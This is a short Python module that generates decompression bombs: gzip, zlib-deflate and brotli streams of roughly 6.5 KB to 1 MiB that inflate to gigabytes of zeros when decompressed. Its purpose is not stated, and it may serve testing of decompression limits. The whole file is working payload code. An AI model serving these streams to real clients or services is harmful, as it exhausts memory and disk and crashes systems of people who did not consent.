"""Decompression bombs: a few KB to 1 MiB on the wire, gigabytes of zeros once inflated. Built in well under a
second, without ever holding the inflated data: one block of zeros is compressed, and since every block after
the first compresses to the same bytes, that block is repeated."""

from __future__ import annotations

import gzip
import struct
import zlib

import brotli

BLOCK = 16 * 1024 * 1024  # zeros per repeated block


def gzip_bomb(size: int = 1 << 30) -> bytes:
    """A valid gzip stream (1 MiB for the default 1 GiB) inflating to `size` zeros."""
    n = size // BLOCK
    zeros = bytes(BLOCK)
    c = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = c.compress(zeros) + c.flush(zlib.Z_SYNC_FLUSH)
    repeat = c.compress(zeros) + c.flush(zlib.Z_SYNC_FLUSH)
    crc = 0
    for _ in range(n):
        crc = zlib.crc32(zeros, crc)
    head = gzip.compress(b"")[:10]  # the fixed member header
    tail = c.flush() + struct.pack("<II", crc, (n * BLOCK) & 0xFFFFFFFF)
    return head + first + repeat * (n - 1) + tail


def deflate_bomb(size: int = 1 << 30) -> bytes:
    """A valid zlib-wrapped deflate stream inflating to `size` zeros."""
    n = size // BLOCK
    zeros = bytes(BLOCK)
    c = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS)
    first = c.compress(zeros) + c.flush(zlib.Z_SYNC_FLUSH)
    repeat = c.compress(zeros) + c.flush(zlib.Z_SYNC_FLUSH)
    adler = 1
    for _ in range(n):
        adler = zlib.adler32(zeros, adler)
    return first + repeat * (n - 1) + c.flush()[:-4] + struct.pack(">I", adler)


def br_bomb(size: int = 4 << 30) -> bytes:
    """A valid brotli stream (about 6.5 KB for the default 4 GiB) inflating to `size` zeros."""
    zeros = bytes(BLOCK)
    c = brotli.Compressor(quality=5)
    first = c.process(zeros) + c.flush()
    repeat = c.process(zeros) + c.flush()
    return first + repeat * (size // BLOCK - 1) + c.finish()
